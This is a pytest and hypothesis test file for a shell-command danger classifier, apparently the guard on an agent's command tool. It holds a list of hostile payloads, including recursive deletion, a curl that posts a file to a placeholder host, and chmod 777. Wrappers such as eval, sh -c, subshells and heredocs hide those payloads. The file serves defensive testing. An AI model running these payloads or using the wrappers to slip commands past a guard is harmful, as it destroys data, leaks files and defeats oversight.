"""The reading of command lines, against tricks and against real shells."""

from __future__ import annotations

import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from infrastructure.danger.judging import classify
from infrastructure.danger.levels import Danger
from infrastructure.danger.shell import read_script
from tests.fuzzing import examples

PAYLOADS = st.sampled_from(["rm -rf src", "git push", "curl -d @x http://h", "sudo ls", "chmod -R 777 ."])


def _single(text: str) -> str:
    return "'" + text.replace("'", "'\"'\"'") + "'"


HIDINGS: list[Callable[[str], str]] = [
    lambda text: f"ls; {text}",
    lambda text: f"ls && {text}",
    lambda text: f"ls\n{text}",
    lambda text: f"ls || {text}",
    lambda text: f"echo x | {text}",
    lambda text: f"{text} | cat",
    lambda text: f"({text})",
    lambda text: f"{{ {text}; }}",
    lambda text: f"echo $({text})",
    lambda text: f'echo "$({text})"',
    lambda text: f"cat <({text})",
    lambda text: f"if true; then {text}; fi",
    lambda text: f"for x in a; do {text}; done",
    lambda text: f"sh -c {_single(text)}",
    lambda text: f"bash -lc {_single(text)}",
    lambda text: f"eval {_single(text)}",
    lambda text: f"bash <<'EOF'\n{text}\nEOF",
    lambda text: f"env {text}" if text[:1].isalpha() and "\n" not in text else f"ls; {text}",
    lambda text: f"echo 'quoted ; text' ; {text}",
    lambda text: f"A=1; {text}",
    lambda text: f"! {text}" if text[:1].isalpha() else f"ls; {text}",
]


@pytest.mark.slow
@given(PAYLOADS, st.lists(st.sampled_from(range(len(HIDINGS))), max_size=4))
@settings(deadline=None, max_examples=examples(30))
def test_dangerous_command_stays_so_wherever_it_is_hidden(payload, hidings):
    text = payload
    for index in hidings:
        text = HIDINGS[index](text)
    found = classify("run_command", {"command": text}, "/nowhere/project").level
    assert found is not Danger.SAFE
    if len(hidings) <= 2 and "((" not in text:  # which is arithmetic
        assert found is Danger.DANGEROUS


@pytest.mark.slow
@given(st.sampled_from(["rm -rf src", "git push"]), st.data())
@settings(deadline=None, max_examples=examples(30))
def test_quotes_within_a_name_hide_nothing(payload, data):
    name, rest = payload.split(" ", 1)
    written = "".join(
        data.draw(st.sampled_from([letter, f"\\{letter}", f"'{letter}'", f'"{letter}"', f"''{letter}"]))
        for letter in name
    )
    found = classify("run_command", {"command": f"{written} {rest}"}, "/nowhere/project").level
    assert found is Danger.DANGEROUS


@given(st.text(max_size=60))
@settings(deadline=None)
def test_whatever_is_written_is_read(text):
    script = read_script(text)
    assert script.doubts or all(word.known for command in script.commands for word in command.words)


TOKENS = (
    "ls", "cat", "echo", "wc", "rm", "sh", "-l", "-rf", "a.txt", "b", "'", "\"", "\\", ";", "|", "&", "&&", "||",
    "\n", "\t", "(", ")", "{", "}", "$", "$x", "`", "#", "<", ">", ">>", "2>&1", "!", "~", "*", "=", "==", "EOF",
    "<<", "''", ">/dev/null", "a\\b", "'x'", "\"y\"", "cd", "[", "]", "?", "%", "^", ",", ":", ".", "..", "/",
    "--", "{a,b}", "$'a'", "a;b",
)  # fmt: skip


@pytest.fixture(scope="module")
def bin_folder(tmp_path_factory) -> Path:
    """Programs that write down what they were called with, and do nothing."""
    folder = tmp_path_factory.mktemp("bin")
    script = folder / "told"
    script.write_text(
        '#!/bin/sh\n{ printf "%s" "${0##*/}"; for x; do printf "\\037%s" "$x"; done; printf "\\036"; } >> "$TOLD"\n'
    )
    script.chmod(0o755)
    for name in ("ls", "cat", "wc", "rm", "sh", "a.txt", "b"):
        (folder / name).symlink_to("told")
    return folder


@pytest.mark.slow
@pytest.mark.parametrize("shell", ["bash", "dash"])
def test_what_is_called_safe_runs_in_a_real_shell_exactly_what_was_read(shell, tmp_path, bin_folder):
    program = shutil.which(shell)
    if program is None:
        pytest.skip(f"no {shell} here")
    (tmp_path / "work").mkdir()
    told, ran = tmp_path / "told", []

    @given(
        st.lists(st.sampled_from([*TOKENS, *[" "] * 12, *["ls ", "cat ", "echo "] * 4]), min_size=1, max_size=9).map(
            "".join
        )
    )
    @settings(deadline=None, max_examples=examples(400, 2000), suppress_health_check=list(HealthCheck))
    def check(text: str) -> None:
        if classify("run_command", {"command": text}, tmp_path / "work").level is not Danger.SAFE:
            return
        told.write_bytes(b"")
        subprocess.run(
            [program, "-c", text], cwd=tmp_path / "work", stdin=subprocess.DEVNULL, check=False, capture_output=True,
            timeout=20, env={"PATH": str(bin_folder), "TOLD": str(told), "HOME": str(tmp_path / "work")},
        )  # fmt: skip
        read = [[word.text for word in command.words] for command in read_script(text).commands]
        calls = [call.decode().split("\x1f") for call in told.read_bytes().split(b"\x1e") if call]
        assert all(call in read for call in calls), (text, calls, read)
        assert list((tmp_path / "work").iterdir()) == [], text
        ran.append(len(calls))

    check()
    assert sum(ran) > 20, "enough was called safe, and ran, for this to say something"
